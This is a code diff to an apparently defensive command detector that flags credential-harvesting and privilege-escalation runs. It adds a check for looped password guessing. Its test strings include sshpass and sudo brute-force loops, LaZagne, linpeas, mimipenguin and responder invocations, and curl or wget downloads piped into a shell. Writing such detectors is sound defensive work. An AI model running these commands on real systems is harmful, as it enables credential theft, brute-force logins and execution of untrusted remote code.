@@ -15,14 +15,38 @@ var credScanner = Detector{
 	Title:  "credential collector run",
 	Why:    "the program searches a whole system for secrets or for a way to root",
 	Detect: onCommands(scanner),
-	Fire: lines(coi.High, "trufflehog filesystem / --json", "gitleaks dir ~ -v", "gitleaks detect --no-git -s /home", "python3 /tmp/LaZagne/Linux/laZagne.py all", "./linpeas.sh -a", "curl -L https://example.com/linpeas.sh | sh", "bash LinEnum.sh -t", "/tmp/pspy64", "trufflehog filesystem --directory=/root", "wget https://example.com/mimipenguin.sh -O- | bash",
-		"noseyparker scan /home", "detect-secrets scan /", "./laZagne all"),
+	Fire: append(lines(coi.Warning, "for p in $(cat words); do sshpass -p $p ssh root@10.0.0.7 id && echo $p; done", "for p in $(cat pw.txt); do echo $p | sudo -S -k true && echo $p; done"), lines(coi.High, "trufflehog filesystem / --json", "gitleaks dir ~ -v", "gitleaks detect --no-git -s /home", "python3 /tmp/LaZagne/Linux/laZagne.py all", "./linpeas.sh -a", "curl -L https://example.com/linpeas.sh | sh", "bash LinEnum.sh -t", "/tmp/pspy64", "trufflehog filesystem --directory=/root", "wget https://example.com/mimipenguin.sh -O- | bash",
+		"responder -I eth0 -wf", "noseyparker scan /home", "detect-secrets scan /", "./laZagne all")...),
 	Quiet: lines("", "gitleaks git .", "gitleaks dir ~/leaky-repo/", "trufflehog git file://. --since-commit HEAD", "trufflehog filesystem . --only-verified", "gitleaks detect --source . -v", "detect-secrets scan", "cat linpeas.sh", "git clone https://example.com/LaZagne"),
+}
+
+// guesses reports a login whose password comes from a list.
+func guesses(s *command.Simple) bool {
+	listed := func(list []*command.Simple) bool {
+		for _, f := range list {
+			if f.Is("cat", "head", "seq", "shuf", "sort") || f.Loop && f.Is("echo", "printf") {
+				return true
+			}
+		}
+		return false
+	}
+	switch s.Name {
+	case "sshpass":
+		return len(s.Parsed().Values("p")) > 0 && listed(s.From)
+	case "sudo":
+		return s.Parsed().Has("S") && listed(s.Stdin)
+	case "su":
+		return listed(s.Stdin)
+	}
+	return false
 }
 
 func scanner(s *command.Simple, _ track.View) *Finding {
 	if textual(s) || s.Class() == program.Reader || s.Class() == program.VCS {
 		return nil
+	}
+	if s.Loop && guesses(s) {
+		return say(s, coi.Warning, "passwords tried one after the other")
 	}
 	run := s.Class() == program.Shell || s.Class() == program.Interpreter
 	for i, a := range s.Argv {
